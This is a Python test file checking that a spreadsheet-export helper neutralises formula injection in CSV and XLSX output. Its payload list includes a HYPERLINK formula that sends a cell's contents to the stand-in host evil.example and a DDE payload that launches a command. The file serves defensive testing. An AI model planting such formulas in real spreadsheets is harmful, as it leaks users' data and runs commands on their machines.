import csv
import io

from openpyxl import Workbook, load_workbook

from nrtd.spreadsheets import csv_row, text_cell, write_only_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\uff1d1+1",
]


def test_csv_fields_that_start_a_formula_get_an_apostrophe_and_keep_their_text():
    out = io.StringIO()
    csv.writer(out).writerows([csv_row([payload, 7, "plain"]) for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[0] for row in rows] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows} == {"7"}
    assert {row[2] for row in rows} == {"plain"}


def test_xlsx_cells_stay_text_in_normal_and_write_only_workbooks():
    normal = Workbook()
    for row, payload in enumerate(PAYLOADS, start=1):
        text_cell(normal.active.cell(row=row, column=1), payload)
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet()
    for payload in PAYLOADS:
        sheet.append([write_only_cell(sheet, payload), 5])
    for book in (normal, streamed):
        buffer = io.BytesIO()
        book.save(buffer)
        buffer.seek(0)
        cells = [row[0] for row in load_workbook(buffer).worksheets[0].iter_rows()]
        assert [cell.value for cell in cells] == PAYLOADS
        assert {cell.data_type for cell in cells} == {"s"}
